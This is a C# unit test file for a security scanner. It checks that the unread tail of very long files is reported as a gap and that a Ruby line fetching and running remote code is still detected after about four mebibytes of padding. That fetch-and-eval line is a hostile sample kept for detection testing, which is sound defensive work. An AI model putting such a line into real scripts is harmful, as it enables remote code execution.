using System.Text;
using ScanHost.Contracts.Scanning;
using ScanHost.Formats;
using ScanHost.Pipeline.Tests.Doubles;

namespace ScanHost.Pipeline.Tests.Stages.Scripts;

/// <summary>What an analyser does not look at is told.</summary>
public sealed class UnreadTextTests
{
    [Theory]
    [InlineData("a.yml", "workspace", "jobs:\n", "# a\n")]
    [InlineData("a.rb", "other-script", "#!/usr/bin/ruby\n", "# a\n")]
    [InlineData("package.json", "packages", "{\"name\":\"a\",\n", "\"b\":1,\n")]
    public async Task The_rest_of_a_very_long_text_is_a_gap(string name, string stage, string start, string line)
    {
        var text = start + string.Concat(Enumerable.Repeat(line, (SourceText.MaxBytes / line.Length) + 1));

        var outcome = await Scans.OfAsync(Encoding.ASCII.GetBytes(text), name);

        outcome.Gaps.Should().Contain(gap => gap.Stage == stage && gap.Reason == GapReason.Limit);
    }

    [Fact]
    public async Task What_a_long_file_of_tasks_runs_is_found_though_four_mebibytes_stand_before_it()
    {
        var text = "#!/usr/bin/ruby\n" + string.Concat(Enumerable.Repeat("# a\n", 5 << 18)) + "eval(Net::HTTP.get(URI('http://host.invalid/a')))\n";

        var outcome = await Scans.OfAsync(Encoding.ASCII.GetBytes(text), "a.rb");

        outcome.Findings.Should().Contain(finding => finding.Id == "rb.run_download");
        outcome.Gaps.Should().NotContain(gap => gap.Stage == "other-script");
    }
}
